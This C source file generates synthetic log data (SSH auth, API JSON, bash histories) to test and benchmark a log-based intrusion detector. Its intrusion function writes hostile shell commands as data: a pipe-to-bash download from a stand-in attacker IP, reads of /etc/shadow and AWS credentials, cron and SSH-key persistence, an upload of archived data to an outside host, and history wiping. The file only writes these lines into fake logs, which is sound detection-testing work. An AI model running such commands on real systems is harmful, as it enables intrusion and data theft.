/* vigil-gen.c - a deterministic workload for the demo, the scenario tests and
 * the benchmarks. Everything comes from one seeded generator, so the same
 * arguments always write the same bytes.
 *
 *   vigil-gen scenario DIR [--days N] [--seed N] [--no-intrusion] [--live SECONDS]
 *                          [--scale K] [--from-day N] [--to-day N]
 *       Writes N days of a normal workload (API traffic, audit and egress
 *       records, ssh logins, sudo, shell work, internet background noise) and,
 *       on the last night, an intrusion in the style of Operation Cloud Hopper:
 *       password spray, admin login from a new place at night, recon, privilege
 *       escalation, download-and-run, persistence, credential access, lateral
 *       movement, beaconing, staging and exfiltration. Files:
 *         DIR/auth.log  DIR/app/api.log  DIR/home/<user>/.bash_history
 *       With --live, lines are appended in event-time order over SECONDS of
 *       wall time (normal days fast, the intrusion slower) while vigil tails.
 *       --scale K makes the API traffic K times busier (same users). The whole
 *       workload is always generated (same bytes for the same arguments), but
 *       only days [--from-day, --to-day) are appended: two runs split the
 *       files at a day boundary, e.g. to restart vigil between them.
 *   vigil-gen bench DIR [--lines N] [--seed N]
 *       N lines (default 1,000,000) of a realistic mix for throughput runs,
 *       one file per format: DIR/app.log (~150-byte JSON lines, 55%),
 *       DIR/auth.log (sshd/PAM/sudo, 20%), DIR/bash_history (#epoch lines,
 *       15%), DIR/egress.log (logfmt, 10%).
 *   vigil-gen flood FILE [--lines N] [--kind ips|users]
 *       N failed ssh logins, each from a new source IP (or for a new user).
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HOUR 3600LL
#define DAY (24 * HOUR)
/* Monday 2026-11-16 00:00:00 UTC: a fixed start keeps runs reproducible. */
#define START_EPOCH 1794787200LL
#define HOST "web-1"

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint64_t rnd(void)
{
    uint64_t x = rng_state;
    x ^= x >> 12;
    x ^= x << 25;
    x ^= x >> 27;
    rng_state = x;
    return x * 0x2545f4914f6cdd1dull;
}

static unsigned rndn(unsigned n)
{
    return n ? (unsigned)(rnd() % n) : 0;
}

#define PICK(arr) ((arr)[rndn(sizeof(arr) / sizeof((arr)[0]))])

/* ---- event list: every line of every file, sorted by time before writing ---- */
enum sink { SINK_AUTH, SINK_APP, SINK_HIST_ALICE, SINK_HIST_BOB, SINK_HIST_OPS, SINK__COUNT };

struct ev {
    int64_t t_us;          /* event time, microseconds */
    uint8_t sink;
    bool attack;           /* part of the intrusion (paced slower live) */
    char *text;            /* line(s) including trailing newline */
};

static struct ev *evs;
static size_t nevs, capevs;

static void add(int64_t t_s, int64_t frac_us, enum sink s, bool attack, const char *fmt, ...)
    __attribute__((format(printf, 5, 6)));

static void add(int64_t t_s, int64_t frac_us, enum sink s, bool attack, const char *fmt, ...)
{
    char buf[4096];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof(buf), fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (nevs == capevs) {
        capevs = capevs ? capevs * 2 : 4096;
        evs = realloc(evs, capevs * sizeof(*evs));
        if (!evs) {
            perror("realloc");
            exit(1);
        }
    }
    evs[nevs].t_us = t_s * 1000000 + frac_us;
    evs[nevs].sink = (uint8_t)s;
    evs[nevs].attack = attack;
    evs[nevs].text = strdup(buf);
    nevs++;
}

static void iso(char *out, size_t cap, int64_t t, int64_t us)
{
    time_t tt = (time_t)t;
    struct tm tm;
    gmtime_r(&tt, &tm);
    char b[32];
    strftime(b, sizeof(b), "%Y-%m-%dT%H:%M:%S", &tm);
    snprintf(out, cap, "%s.%06" PRId64 "+00:00", b, us);
}

static unsigned next_pid = 2000;

/* An auth.log line in Debian 12's default (RFC 3339) format. */
static void auth(int64_t t, bool attack, const char *prog, const char *fmt, ...)
    __attribute__((format(printf, 4, 5)));

static void auth(int64_t t, bool attack, const char *prog, const char *fmt, ...)
{
    char msg[2048], when[64];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(msg, sizeof(msg), fmt, ap);
    va_end(ap);
    int64_t us = rndn(1000000);
    iso(when, sizeof(when), t, us);
    unsigned pid = next_pid++;
    if (next_pid > 60000)
        next_pid = 2000;
    if (strcmp(prog, "sudo") == 0 || strncmp(prog, "useradd", 7) == 0 ||
        strncmp(prog, "usermod", 7) == 0)
        add(t, us, SINK_AUTH, attack, "%s " HOST " %s: %s\n", when, prog, msg);
    else
        add(t, us, SINK_AUTH, attack, "%s " HOST " %s[%u]: %s\n", when, prog, pid, msg);
}

static void hist(int64_t t, enum sink s, bool attack, const char *cmd)
{
    add(t, 0, s, attack, "#%" PRId64 "\n%s\n", t, cmd);
}

static void app_json(int64_t t, bool attack, const char *fmt, ...) __attribute__((format(printf, 3, 4)));

static void app_json(int64_t t, bool attack, const char *fmt, ...)
{
    char body[2048], when[64];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(body, sizeof(body), fmt, ap);
    va_end(ap);
    int64_t us = rndn(1000000);
    iso(when, sizeof(when), t, us);
    when[23] = 'Z';   /* millisecond precision, UTC */
    when[24] = 0;
    add(t, us, SINK_APP, attack, "{\"ts\":\"%s\",%s}\n", when, body);
}

/* ---- the normal workload ---- */
static const char *const api_paths[] = {
    "/api/v1/orders", "/api/v1/orders/{id}", "/api/v1/users/me", "/api/v1/cart",
    "/api/v1/products", "/api/v1/products/{id}", "/healthz", "/api/v1/checkout",
};
static const char *const app_users[] = { "alice", "bob", "carol", "dave", "erin", "svc-web" };
static const char *const office_ips[] = { "10.0.0.5", "10.8.0.2" };
static const char *const client_ips[] = { "10.1.4.21", "10.1.4.22", "10.1.7.9", "10.2.0.14" };
static const char *const normal_dst[] = { "api.stripe.com", "s3.eu-west-1.amazonaws.com",
                                          "hooks.slack.com", "api.sendgrid.com" };
/* Free-text messages: a word before and after the number that varies. */
static const char *const templates[][2] = {
    { "cache miss for product", "" }, { "order", "created" }, { "payment authorised for order", "" },
    { "user session refreshed after", "s" }, { "slow query took", "ms" },
};
static const char *const dev_cmds[] = {
    "git status", "git pull --rebase", "make -j4", "ls -la", "cd ~/src/shop",
    "vim app/orders.py", "kubectl get pods -n shop", "kubectl logs deploy/api -n shop --tail=50",
    "docker ps", "grep -rn TODO app/", "less /var/log/app/api.log",
    "curl -s https://api.internal/healthz | jq .", "python3 -m pytest -q", "git log --oneline -5",
    "ssh bastion.internal", "tail -f /var/log/app/api.log", "htop", "df -h",
};
static const char *const ops_cmds[] = {
    "sudo systemctl restart shop-api", "sudo journalctl -u shop-api --since today",
    "kubectl get nodes", "df -h", "free -m", "sudo apt-get update", "uptime",
    "ssh bastion.internal", "kubectl rollout status deploy/api -n shop", "ls /etc/shop",
};
static const char *const spray_users[] = {
    "admin", "test", "oracle", "postgres", "ubuntu", "ops-admin", "alice", "deploy", "git",
    "jenkins", "backup", "support",
};

static int scale = 1;           /* --scale: API traffic density */
static int last_day;            /* index of the last day written */

static bool workhours(int64_t t, int day)
{
    int h = (int)((t % DAY) / HOUR);
    int wd = day % 7;  /* 0 = Monday */
    return wd < 5 && h >= 8 && h < 19;
}

static void normal_day(int day)
{
    int64_t d0 = START_EPOCH + day * DAY;
    bool weekday = day % 7 < 5;

    /* API traffic: busier in working hours, never silent. */
    for (int64_t t_ms = d0 * 1000; t_ms < (d0 + DAY) * 1000;) {
        bool busy = workhours(t_ms / 1000, day);
        t_ms += (busy ? 20000 + rndn(40000) : 90000 + rndn(180000)) / scale;
        int64_t t = t_ms / 1000;
        if (t >= d0 + DAY)
            break;
        unsigned r = rndn(100);
        const char *user = PICK(app_users);
        if (r < 70) {
            const char *path = PICK(api_paths);
            unsigned status = rndn(100) < 97 ? 200 : (rndn(2) ? 404 : 500);
            app_json(t, false,
                     "\"level\":\"%s\",\"msg\":\"request served\",\"method\":\"%s\",\"path\":\"%s\","
                     "\"status\":%u,\"user\":\"%s\",\"latency_ms\":%u,\"src_ip\":\"%s\","
                     "\"bytes\":%u",
                     status == 500 ? "error" : "info", rndn(3) ? "GET" : "POST", path, status, user,
                     5 + rndn(120), PICK(client_ips), 200 + rndn(4000));
        } else if (r < 85) {
            unsigned k = rndn(sizeof(templates) / sizeof(templates[0]));
            app_json(t, false, "\"level\":\"info\",\"msg\":\"%s %u %s\"", templates[k][0],
                     1000 + rndn(90000), templates[k][1]);
        } else if (r < 93) {
            static const char *const actions[] = { "GetObject", "ListBucket", "PutObject", "GetParameter" };
            app_json(t, false,
                     "\"identity\":\"svc-web\",\"action\":\"%s\",\"src_ip\":\"10.1.4.21\","
                     "\"result\":\"success\",\"resource\":\"arn:aws:s3:::shop-assets\"",
                     PICK(actions));
        } else {
            app_json(t, false, "\"dst_host\":\"%s\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
                     PICK(normal_dst), 500 + rndn(3000), 1000 + rndn(20000));
        }
    }

    /* Staff logins, sudo and shell work on weekdays. */
    if (weekday) {
        struct { const char *user; enum sink s; const char *const *cmds; size_t n; } staff[] = {
            { "alice", SINK_HIST_ALICE, dev_cmds, sizeof(dev_cmds) / sizeof(*dev_cmds) },
            { "bob", SINK_HIST_BOB, dev_cmds, sizeof(dev_cmds) / sizeof(*dev_cmds) },
            { "ops-admin", SINK_HIST_OPS, ops_cmds, sizeof(ops_cmds) / sizeof(*ops_cmds) },
        };
        for (size_t i = 0; i < 3; i++) {
            int64_t t = d0 + 8 * HOUR + 30 * 60 + rndn(90 * 60);
            const char *ip = office_ips[rndn(2)];
            unsigned port = 40000 + rndn(20000);
            auth(t, false, "sshd", "Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:%s",
                 staff[i].user, ip, port, i == 2 ? "Qm9wcy1hZG1pbi1rZXktZmluZ2VycHJpbnQ" : "dXNlci1rZXktZmluZ2VycHJpbnQtZm9yLWRldg");
            auth(t, false, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%u) by (uid=0)",
                 staff[i].user, 1000 + (unsigned)i);
            int64_t tt = t + 60;
            unsigned ncmd = 10 + rndn(20);
            for (unsigned k = 0; k < ncmd; k++) {
                tt += 60 + rndn(900);
                const char *cmd = staff[i].cmds[rndn((unsigned)staff[i].n)];
                hist(tt, staff[i].s, false, cmd);
                if (strncmp(cmd, "sudo ", 5) == 0)
                    auth(tt, false, "sudo", "%s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=%s",
                         staff[i].user, (unsigned)i, staff[i].user,
                         strstr(cmd, "systemctl") ? "/usr/bin/systemctl restart shop-api"
                         : strstr(cmd, "journalctl") ? "/usr/bin/journalctl -u shop-api --since today"
                                                     : "/usr/bin/apt-get update");
            }
            /* The staff's own API calls (cloud console, CLI) from the office. */
            static const char *const ops_api[] = { "DescribeInstances", "ListBuckets", "GetObject",
                                                   "GetParameter", "DescribeDBInstances" };
            static const char *const dev_api[] = { "GetObject", "PutObject", "ListBucket",
                                                   "GetParameter" };
            if (i != 1) {
                unsigned ncall = 4 + rndn(8);
                for (unsigned k = 0; k < ncall; k++) {
                    int64_t tc = t + 120 + rndn(7 * HOUR);
                    app_json(tc, false,
                             "\"identity\":\"%s\",\"action\":\"%s\",\"src_ip\":\"%s\","
                             "\"result\":\"success\"",
                             staff[i].user, i == 2 ? PICK(ops_api) : PICK(dev_api), ip);
                }
            }
            int64_t out = d0 + 17 * HOUR + rndn(2 * HOUR);
            auth(out, false, "sshd", "pam_unix(sshd:session): session closed for user %s", staff[i].user);
        }
        /* Last day: bob works from the new office (a network never seen),
         * in working hours, with his key: a benign rarity. */
        if (day == last_day) {
            int64_t t = d0 + 9 * HOUR + 40 * 60 + rndn(600);
            auth(t, false, "sshd", "Accepted publickey for bob from 10.9.0.3 port %u ssh2: ED25519 SHA256:%s",
                 40000 + rndn(20000), "dXNlci1rZXktZmluZ2VycHJpbnQtZm9yLWRldg");
        }
        /* A typo now and then: one failure, then success. */
        if (rndn(3) == 0) {
            int64_t t = d0 + 13 * HOUR + rndn(HOUR);
            auth(t, false, "sshd", "Failed password for bob from 10.0.0.5 port %u ssh2", 40000 + rndn(20000));
            auth(t + 5, false, "sshd", "Accepted password for bob from 10.0.0.5 port %u ssh2", 40000 + rndn(20000));
        }
    }
    /* The deploy robot, every 4 hours, every day, with its key. */
    for (int k = 0; k < 6; k++) {
        int64_t t = d0 + k * 4 * HOUR + 300 + rndn(60);
        auth(t, false, "sshd", "Accepted publickey for deploy from 10.2.0.14 port %u ssh2: RSA SHA256:ZGVwbG95LXJvYm90LWtleQ",
             40000 + rndn(20000));
        auth(t + 20, false, "sshd", "pam_unix(sshd:session): session closed for user deploy");
    }
    /* Internet background noise: a few scanners an hour, quickly gone. */
    for (int k = 0; k < 12; k++) {
        int64_t t = d0 + rndn(DAY);
        char ip[32];
        snprintf(ip, sizeof(ip), "%u.%u.%u.%u", 45 + rndn(150), rndn(256), rndn(256), 1 + rndn(254));
        const char *u = PICK(spray_users);
        auth(t, false, "sshd", "Invalid user %s from %s port %u", u, ip, 30000 + rndn(30000));
        auth(t + 1, false, "sshd", "Connection closed by invalid user %s %s port %u [preauth]", u, ip,
             30000 + rndn(30000));
    }
}

/* ---- the intrusion ---- */
static void intrusion(int day)
{
    int64_t d0 = START_EPOCH + day * DAY;
    const char *atk = "198.51.100.7";
    const char *spray = "203.0.113.45";
    int64_t t = d0 + 1 * HOUR + 50 * 60;

    /* 01:50 password spraying: one source, many users, a few tries each. */
    for (int round = 0; round < 2; round++)
        for (size_t i = 0; i < sizeof(spray_users) / sizeof(*spray_users); i++) {
            t += 2 + rndn(4);
            const char *u = spray_users[i];
            bool real = strcmp(u, "ops-admin") == 0 || strcmp(u, "alice") == 0 || strcmp(u, "deploy") == 0;
            if (real)
                auth(t, true, "sshd", "Failed password for %s from %s port %u ssh2", u, spray, 50000 + rndn(9000));
            else
                auth(t, true, "sshd", "Failed password for invalid user %s from %s port %u ssh2", u, spray,
                     50000 + rndn(9000));
        }
    auth(t + 2, true, "sshd", "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=ops-admin", spray);

    /* 03:10 the stolen password works, from a new place. */
    t = d0 + 3 * HOUR + 10 * 60;
    auth(t - 40, true, "sshd", "Failed password for ops-admin from %s port 51122 ssh2", atk);
    auth(t, true, "sshd", "Accepted password for ops-admin from %s port 51123 ssh2", atk);
    auth(t, true, "sshd", "pam_unix(sshd:session): session opened for user ops-admin(uid=1002) by (uid=0)");

    static const char *const recon[] = {
        "whoami", "id", "uname -a", "hostname", "cat /etc/passwd", "ip a", "ss -tlnp", "ps aux",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "find / -name '*.pem' -o -name id_rsa 2>/dev/null",
    };
    for (size_t i = 0; i < sizeof(recon) / sizeof(*recon); i++) {
        t += 8 + rndn(20);
        hist(t, SINK_HIST_OPS, true, recon[i]);
    }
    /* privilege escalation */
    t += 30;
    hist(t, SINK_HIST_OPS, true, "sudo -i");
    auth(t, true, "sudo", "ops-admin : TTY=pts/3 ; PWD=/home/ops-admin ; USER=root ; COMMAND=/bin/bash");
    auth(t, true, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by ops-admin(uid=1002)");
    /* credential access */
    t += 20;
    hist(t, SINK_HIST_OPS, true, "cat ~/.aws/credentials");
    t += 15;
    hist(t, SINK_HIST_OPS, true, "cat /etc/shadow");
    /* download and run a remote access tool */
    t += 40;
    hist(t, SINK_HIST_OPS, true, "curl -s http://198.51.100.7/i.sh | bash");
    t += 25;
    hist(t, SINK_HIST_OPS, true, "wget -q http://198.51.100.7/agent -O /dev/shm/.agent");
    t += 5;
    hist(t, SINK_HIST_OPS, true, "chmod +x /dev/shm/.agent && /dev/shm/.agent &");
    /* persistence */
    t += 30;
    hist(t, SINK_HIST_OPS, true, "(crontab -l; echo '*/5 * * * * /dev/shm/.agent') | crontab -");
    t += 20;
    hist(t, SINK_HIST_OPS, true, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx attacker@kali' >> ~/.ssh/authorized_keys");
    t += 20;
    auth(t, true, "useradd", "new user: name=svc-backup, UID=1005, GID=1005, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/3");
    auth(t + 2, true, "usermod", "add 'svc-backup' to group 'sudo'");
    /* API abuse with the stolen identity */
    static const char *const api[] = { "ListUsers", "ListSecrets", "GetSecretValue", "CreateAccessKey",
                                       "PutUserPolicy", "ListBuckets" };
    for (size_t i = 0; i < sizeof(api) / sizeof(*api); i++) {
        t += 10 + rndn(10);
        app_json(t, true, "\"identity\":\"ops-admin\",\"action\":\"%s\",\"src_ip\":\"%s\",\"result\":\"success\"",
                 api[i], atk);
    }
    for (int i = 0; i < 12; i++) {
        t += 2;
        app_json(t, true, "\"identity\":\"ops-admin\",\"action\":\"GetSecretValue\",\"src_ip\":\"%s\","
                 "\"result\":\"AccessDenied\",\"resource\":\"prod/db/%d\"", atk, i);
    }
    /* lateral movement */
    t += 60;
    hist(t, SINK_HIST_OPS, true, "ssh 10.0.3.17");
    t += 30;
    hist(t, SINK_HIST_OPS, true, "scp /dev/shm/.agent db-2.internal:/tmp/");
    /* command and control: a beacon every ~60 s with +-10% jitter */
    int64_t bt = t;
    for (int i = 0; i < 40; i++) {
        bt += 54 + rndn(13);
        app_json(bt, true, "\"dst_host\":\"update-check.cdn-g00gle.com\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":%u",
                 300 + rndn(60), 500 + rndn(100));
    }
    /* collection and exfiltration */
    t += 600;
    hist(t, SINK_HIST_OPS, true, "tar czf /dev/shm/.d.tgz /var/lib/shop/data /etc/shop");
    t += 40;
    hist(t, SINK_HIST_OPS, true, "zip -P hunter2 -r /dev/shm/.x.zip /home/ops-admin/exports");
    t += 40;
    hist(t, SINK_HIST_OPS, true, "curl -s -T /dev/shm/.d.tgz https://files.transfer-drop.io/upload");
    app_json(t + 1, true, "\"dst_host\":\"files.transfer-drop.io\",\"dst_port\":443,\"bytes_out\":%u,\"bytes_in\":512",
             850000000u);
    app_json(t + 2, true, "\"level\":\"info\",\"msg\":\"bulk export of 182000 customer records by ops-admin\",\"user\":\"ops-admin\",\"bytes\":412000000");
    /* defense evasion */
    t += 30;
    hist(t, SINK_HIST_OPS, true, "history -c");
    t += 5;
    hist(t, SINK_HIST_OPS, true, "unset HISTFILE");
    auth(t + 60, true, "sshd", "pam_unix(sshd:session): session closed for user ops-admin");
}

static int ev_cmp(const void *a, const void *b)
{
    const struct ev *x = a, *y = b;
    if (x->t_us != y->t_us)
        return x->t_us < y->t_us ? -1 : 1;
    return x < y ? -1 : 1;
}

static int mkdirs(const char *path)
{
    char buf[4096];
    snprintf(buf, sizeof(buf), "%s", path);
    for (char *p = buf + 1; *p; p++)
        if (*p == '/') {
            *p = 0;
            mkdir(buf, 0755);
            *p = '/';
        }
    return mkdir(buf, 0755) < 0 && errno != EEXIST ? -1 : 0;
}

static int scenario(const char *dir, int days, bool with_intrusion, double live_s, int from_day,
                    int to_day)
{
    static const char *const rel[SINK__COUNT] = {
        "auth.log", "app/api.log", "home/alice/.bash_history", "home/bob/.bash_history",
        "home/ops-admin/.bash_history",
    };
    int fds[SINK__COUNT];
    for (int i = 0; i < SINK__COUNT; i++) {
        char p[4096];
        snprintf(p, sizeof(p), "%s/%s", dir, rel[i]);
        char d[4096];
        snprintf(d, sizeof(d), "%s", p);
        *strrchr(d, '/') = 0;
        if (mkdirs(d) < 0) {
            fprintf(stderr, "vigil-gen: mkdir %s: %s\n", d, strerror(errno));
            return 1;
        }
        fds[i] = open(p, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
        if (fds[i] < 0) {
            fprintf(stderr, "vigil-gen: open %s: %s\n", p, strerror(errno));
            return 1;
        }
    }
    last_day = days - 1;
    for (int d = 0; d < days; d++)
        normal_day(d);
    if (with_intrusion)
        intrusion(days - 1);
    qsort(evs, nevs, sizeof(*evs), ev_cmp);
    /* Keep days [from_day, to_day) only. */
    int64_t lo = (START_EPOCH + (int64_t)from_day * DAY) * 1000000;
    int64_t hi = (START_EPOCH + (int64_t)to_day * DAY) * 1000000;
    size_t kept = 0;
    for (size_t i = 0; i < nevs; i++) {
        if (evs[i].t_us >= lo && evs[i].t_us < hi)
            evs[kept++] = evs[i];
        else
            free(evs[i].text);
    }
    nevs = kept;

    /* Live pacing: normal lines share 40% of the time, attack lines 60%. */
    size_t natk = 0;
    for (size_t i = 0; i < nevs; i++)
        natk += evs[i].attack;
    double per_normal = live_s > 0 ? live_s * (natk ? 0.4 : 1.0) / (double)(nevs - natk + 1) : 0;
    double per_attack = live_s > 0 && natk ? live_s * 0.6 / (double)natk : 0;
    double debt = 0;
    for (size_t i = 0; i < nevs; i++) {
        size_t len = strlen(evs[i].text);
        if (write(fds[evs[i].sink], evs[i].text, len) != (ssize_t)len) {
            fprintf(stderr, "vigil-gen: write: %s\n", strerror(errno));
            return 1;
        }
        free(evs[i].text);
        if (live_s > 0) {
            debt += evs[i].attack ? per_attack : per_normal;
            if (debt >= 0.005) {
                struct timespec ts = { (time_t)debt, (long)((debt - (double)(time_t)debt) * 1e9) };
                nanosleep(&ts, NULL);
                debt = 0;
            }
        }
    }
    for (int i = 0; i < SINK__COUNT; i++)
        close(fds[i]);
    fprintf(stderr, "vigil-gen: wrote %zu events (%zu of the intrusion) over %d days into %s\n",
            nevs, natk, days, dir);
    free(evs);
    return 0;
}

/* ---- bench and flood ---- */
static FILE *bench_open(const char *dir, const char *name)
{
    char p[4096];
    snprintf(p, sizeof(p), "%s/%s", dir, name);
    FILE *f = fopen(p, "w");
    if (!f) {
        fprintf(stderr, "vigil-gen: %s: %s\n", p, strerror(errno));
        return NULL;
    }
    setvbuf(f, NULL, _IOFBF, 1 << 20);
    return f;
}

static int bench(const char *dir, long lines)
{
    if (mkdirs(dir) < 0) {
        fprintf(stderr, "vigil-gen: mkdir %s: %s\n", dir, strerror(errno));
        return 1;
    }
    FILE *app = bench_open(dir, "app.log"), *au = bench_open(dir, "auth.log"),
         *hi = bench_open(dir, "bash_history"), *eg = bench_open(dir, "egress.log");
    if (!app || !au || !hi || !eg)
        return 1;
    int64_t t = START_EPOCH;
    for (long i = 0; i < lines;) {
        t += rndn(3);
        char when[64];
        iso(when, sizeof(when), t, rndn(1000000));
        unsigned r = rndn(100);
        if (r < 55) {
            when[23] = 'Z';
            when[24] = 0;
            fprintf(app, "{\"ts\":\"%s\",\"level\":\"info\",\"msg\":\"request served\",\"method\":\"GET\","
                         "\"path\":\"%s\",\"status\":%d,\"user\":\"%s\",\"latency_ms\":%u}\n",
                    when, PICK(api_paths), rndn(50) ? 200 : 500, PICK(app_users), rndn(300));
            i++;
        } else if (r < 75) {
            unsigned k = rndn(4);
            if (k == 0)
                fprintf(au, "%s " HOST " sshd[%u]: Accepted publickey for %s from %s port %u ssh2: ED25519 SHA256:dXNlci1rZXk\n",
                        when, 1000 + rndn(60000), PICK(app_users), PICK(office_ips), 40000 + rndn(20000));
            else if (k == 1)
                fprintf(au, "%s " HOST " sshd[%u]: Failed password for invalid user %s from 45.%u.%u.%u port %u ssh2\n",
                        when, 1000 + rndn(60000), PICK(spray_users), rndn(256), rndn(256), rndn(256), 30000 + rndn(30000));
            else if (k == 2)
                fprintf(au, "%s " HOST " sudo: ops-admin : TTY=pts/1 ; PWD=/home/ops-admin ; USER=root ; COMMAND=/usr/bin/systemctl restart shop-api\n",
                        when);
            else
                fprintf(au, "%s " HOST " sshd[%u]: pam_unix(sshd:session): session opened for user %s(uid=1001) by (uid=0)\n",
                        when, 1000 + rndn(60000), PICK(app_users));
            i++;
        } else if (r < 90) {
            fprintf(hi, "#%" PRId64 "\n%s\n", t, PICK(dev_cmds));
            i += 2;
        } else {
            fprintf(eg, "ts=%s level=info msg=\"upstream call\" dst_host=%s dst_port=443 bytes_out=%u bytes_in=%u duration_ms=%u\n",
                    when, PICK(normal_dst), 200 + rndn(5000), 100 + rndn(50000), rndn(900));
            i++;
        }
    }
    int rc = 0;
    FILE *all[] = { app, au, hi, eg };
    for (int k = 0; k < 4; k++)
        if (fclose(all[k]) != 0)
            rc = 1;
    return rc;
}

static int flood(const char *path, long lines, bool users)
{
    FILE *f = fopen(path, "w");
    if (!f) {
        fprintf(stderr, "vigil-gen: %s: %s\n", path, strerror(errno));
        return 1;
    }
    int64_t t = START_EPOCH;
    for (long i = 0; i < lines; i++) {
        char when[64];
        if (i % 50 == 0)
            t++;
        iso(when, sizeof(when), t, rndn(1000000));
        uint32_t ip = 0x0b000000u + (uint32_t)i * 7u;   /* distinct for 2^32/7 lines */
        if (users)
            fprintf(f, "%s " HOST " sshd[%u]: Failed password for invalid user u%08lx from 203.0.113.9 port %u ssh2\n",
                    when, 1000 + rndn(60000), i, 30000 + rndn(30000));
        else
            fprintf(f, "%s " HOST " sshd[%u]: Failed password for invalid user admin from %u.%u.%u.%u port %u ssh2\n",
                    when, 1000 + rndn(60000), ip >> 24, (ip >> 16) & 255, (ip >> 8) & 255, ip & 255,
                    30000 + rndn(30000));
    }
    return fclose(f) == 0 ? 0 : 1;
}

static void usage(void)
{
    fputs("usage: vigil-gen scenario DIR [--days N] [--seed N] [--no-intrusion] [--live SECONDS]\n"
          "                          [--scale K] [--from-day N] [--to-day N]\n"
          "       vigil-gen bench DIR [--lines N] [--seed N]\n"
          "       vigil-gen flood FILE [--lines N] [--kind ips|users]\n",
          stderr);
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        usage();
        return 2;
    }
    const char *mode = argv[1], *target = argv[2];
    int days = 8, from_day = 0, to_day = 1000;
    long lines = 1000000;
    bool intr = true, users = false;
    double live = 0;
    for (int i = 3; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--no-intrusion") == 0) {
            intr = false;
            continue;
        }
        if (!v) {
            usage();
            return 2;
        }
        i++;
        if (strcmp(a, "--days") == 0)
            days = atoi(v);
        else if (strcmp(a, "--seed") == 0)
            rng_state = strtoull(v, NULL, 10) * 0x9e3779b97f4a7c15ull + 1;
        else if (strcmp(a, "--scale") == 0)
            scale = atoi(v);
        else if (strcmp(a, "--from-day") == 0)
            from_day = atoi(v);
        else if (strcmp(a, "--to-day") == 0)
            to_day = atoi(v);
        else if (strcmp(a, "--live") == 0)
            live = atof(v);
        else if (strcmp(a, "--lines") == 0)
            lines = atol(v);
        else if (strcmp(a, "--kind") == 0)
            users = strcmp(v, "users") == 0;
        else {
            usage();
            return 2;
        }
    }
    if (days < 1 || days > 366 || lines < 0 || scale < 1 || scale > 1000 || from_day < 0 ||
        to_day <= from_day) {
        usage();
        return 2;
    }
    if (strcmp(mode, "scenario") == 0)
        return scenario(target, days, intr, live, from_day, to_day);
    if (strcmp(mode, "bench") == 0)
        return bench(target, lines);
    if (strcmp(mode, "flood") == 0)
        return flood(target, lines, users);
    usage();
    return 2;
}
